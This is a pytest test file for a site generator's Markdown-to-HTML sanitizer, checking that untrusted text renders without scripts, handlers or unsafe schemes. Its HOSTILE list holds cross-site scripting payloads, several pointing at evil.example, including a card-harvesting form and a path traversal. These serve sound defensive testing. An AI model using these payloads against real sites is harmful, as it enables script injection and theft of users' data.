"""Markdown to HTML: whatever a stranger writes, nothing comes out that acts."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sitegen.load.body import first_sentence
from sitegen.load.markup import MAX_BRACKETS, MAX_CHARACTERS, check_body, render_body

INLINE = "a abbr b bdi br cite code del em i img ins kbd mark q s small span strong sub sup u"
BLOCK = "blockquote dd dl dt h2 h3 h4 h5 h6 hr li ol p pre table tbody td th thead tr ul"
TAGS = {*INLINE.split(), *BLOCK.split()}
ATTRIBUTES = {"lang", "dir", "href", "title", "src", "alt", "start", "colspan", "rowspan", "scope"}
SCHEMES = {"http", "https", "mailto", "tel", "record", "picture", ""}

HOSTILE = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)"',
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x](https://evil.example/pixel.gif)",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<style>*{display:none}</style>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<form action='https://evil.example'><input name=card><button>Pay</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<object data=x></object><embed src=x>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "![x><script>alert(1)</script>](a.jpg)",
    '![x](a.jpg "\'><script>alert(1)</script>")',
    '[l](http://x "><script>alert(1)</script>")',
    "<a title='\"><script>alert(1)</script>' href='https://a.org'>x</a>",
    "<!-- --><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<?php echo 1 ?><![CDATA[<script>alert(1)</script>]]>",
    "`<script>` and \n\n    <script>alert(1)</script>\n",
    '<a href="https://a.org" onclick="alert(\'"nested"\')">x</a>',
    "<b><i><u>never closed",
    "</div></main></body></html><script>alert(1)</script>",
    "\u202e<script>alert(1)</script>\u202c",
    "[x](http://[)",
    "![x](http://[)",
    "<a href='http://['>x</a>",
    "<a href='//evil.example'>x</a>",
    "<img src='picture:../../../etc/passwd'>",
    "<span id=main class=buy>x</span>",
)


class Reader(HTMLParser):
    """Collects every element and attribute, as a browser would see them."""

    def __init__(self) -> None:
        super().__init__()
        self.seen: list[tuple[str, str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, "", ""))
        self.seen += [(tag, name, value or "") for name, value in attrs]

    def handle_comment(self, data: str) -> None:
        self.seen.append(("comment", "", data))


def assert_harmless(markup: str) -> None:
    reader = Reader()
    reader.feed(markup)
    for tag, name, value in reader.seen:
        assert tag in TAGS, (tag, markup)
        assert not name or name in ATTRIBUTES, (name, markup)
        if name in ("href", "src"):
            scheme = re.match(r"[\s\x00-\x1f]*([a-zA-Z][a-zA-Z0-9+.-]*):", value)
            assert (scheme.group(1).lower() if scheme else "") in SCHEMES, (value, markup)


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_comes_out_harmless(text: str) -> None:
    assert_harmless(render_body(text, "content/products/x").html)


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_inside_other_markup_comes_out_harmless(text: str) -> None:
    around = f"# Title\n\n- a\n- **{text}**\n\n> {text}\n\n| a | b |\n|---|---|\n| {text} | x |\n\n[{text}](a.md)\n"
    assert_harmless(render_body(around, "content/products/x").html)


PIECES = st.sampled_from(
    [*HOSTILE, "<", ">", '"', "'", "(", ")", "[", "]", "!", "`", "\n\n", "    ", "|", "*", "&", "&lt;", "\\", "a",
     "javascript:", "onerror=", "<img ", "<a href=", "data:", "\x01", "\u202e", "]]>", "-->", "picture:", "record:"]
)  # fmt: skip


@settings(max_examples=150, derandomize=True)
@given(st.lists(PIECES | st.text(max_size=8), max_size=12).map("".join))
def test_no_text_at_all_brings_a_handler_a_script_or_a_scheme(text: str) -> None:
    assert_harmless(render_body(text, "content/products/x").html)


@pytest.mark.parametrize(
    "unit",
    ["[", "![", "<", "<a ", "< on", "<a@", "<!--", "<?", "*a ", "_a", "`a", "> ", "1. ", "+ ", "&#", "[a](", "\\"],
)
def test_a_long_hostile_run_neither_hangs_nor_breaks(unit: str) -> None:
    text = unit * (20_000 // len(unit))
    assert_harmless(render_body(text, "content/products/x").html)
    list(check_body(text))


def test_five_thousand_brackets_are_a_problem() -> None:
    assert {refusal.code for refusal in check_body("[" * 5_000)} == {"body.too_long"}


@pytest.mark.parametrize("text", ["<" * (MAX_BRACKETS + 1), "a" * (MAX_CHARACTERS + 1), "1. " * 500 + "a"])
def test_what_is_too_much_to_render_is_a_problem_and_shown_as_text(text: str) -> None:
    assert {refusal.code for refusal in check_body(text)} == {"body.too_long"}
    assert render_body(text, "x").html.startswith("<p>")


def test_what_is_taken_out_is_told_with_its_line() -> None:
    found = list(check_body("Fine\n\n<iframe src=x>\n[x](javascript:a)\n<p onclick=x>\n"))
    assert [(refusal.code, refusal.line) for refusal in found] == [("body.unsafe", line) for line in (3, 4, 5)]


def test_plain_prose_is_nowhere_suspicious() -> None:
    text = "Scripts, styles et formes : 3 < 4, on = un.\n\n[Voir](amlou.md) ![Moulin](moulin.jpg)\n"
    assert list(check_body(text)) == []


def test_links_to_source_files_and_pictures_are_collected() -> None:
    body = render_body("[A](../amlou/index.md#prix) ![Le moulin](moulin%20bras.jpg)", "content/products/argan")
    assert body.records == ("content/products/amlou/index.md",)
    assert body.pictures == (("content/products/argan/moulin bras.jpg", "Le moulin"),)
    assert 'href="record:content/products/amlou/index.md#prix"' in body.html


def test_a_first_level_heading_becomes_the_second() -> None:
    assert render_body("# A", "x").html == "<h2>A</h2>"


def test_the_converter_remembers_nothing_of_the_body_before() -> None:
    render_body("[a]: https://a.org\n\n![x](a.jpg)", "x")
    body = render_body("[a]", "x")
    assert (body.html, body.pictures) == ("<p>[a]</p>", ())


@pytest.mark.parametrize(
    ("markup", "sentence"),
    [
        ("<p>Une. Deux.</p>", "Une."),
        ("<p>سؤال؟ جواب.</p>", "سؤال؟"),
        ("<h2>Non</h2><p>1.5 l d'<b>huile</b> ! Oui</p>", "1.5 l d'huile !"),
        ("<p><img alt='x'></p><p>Après</p>", "Après"),
        ("<ul><li>x</li></ul>", ""),
    ],
)
def test_the_first_sentence_is_plain_text(markup: str, sentence: str) -> None:
    assert first_sentence(markup) == sentence


def test_a_first_sentence_is_cut_between_words() -> None:
    cut = first_sentence("<p>" + "mot " * 200 + "</p>")
    assert len(cut) <= 200
    assert cut.endswith("mot…")
